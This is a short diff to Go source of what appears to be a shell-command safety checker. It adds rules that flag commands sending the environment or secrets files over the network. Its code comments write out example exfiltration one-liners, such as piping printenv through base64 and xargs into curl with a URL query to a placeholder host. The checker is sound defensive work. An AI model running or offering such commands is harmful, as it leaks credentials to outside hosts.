@@ -3289,6 +3289,9 @@ func sendsSecret(iv *inv) {
 			continue // aws s3api list-objects --prefix x/.env: a key in the bucket, no local file
 		}
 		switch {
+		case !a.ok && strings.Contains(a.src, secretItems): // printenv | base64 | xargs -I{} curl "https://x/?d={}"
+			iv.flag(Destructive, iv.name+" sends the environment or a secrets file over the network: "+a.shown())
+			return
 		case a.ok && (strings.HasPrefix(a.s, "IdentityFile=") || strings.HasPrefix(a.s, "-i")) && !strings.Contains(a.s, "://"):
 		case !a.ok && (secretSubst.MatchString(a.src) || iv.substReadsSecret(a.src) || printsIndirect(a.src)):
 			iv.flag(Destructive, iv.name+" sends the environment or a secrets file over the network: "+a.shown())
@@ -3401,6 +3404,10 @@ func uploadsSecret(iv *inv) {
 	}
 	remote := false
 	for _, a := range args {
+		if !a.ok && strings.Contains(a.src, secretItems) && remoteURL.MatchString(a.src) { // env | xargs -I{} tool "https://x/?d={}"
+			iv.flag(Destructive, iv.name+" sends the environment or a secrets file over the network, in a URL: "+a.shown())
+			return
+		}
 		remote = remote || a.ok && (remoteURL.MatchString(a.s) || (tool == "kubectl" || tool == "oc") && remotePath(tool, a.s))
 	}
 	if !remote {
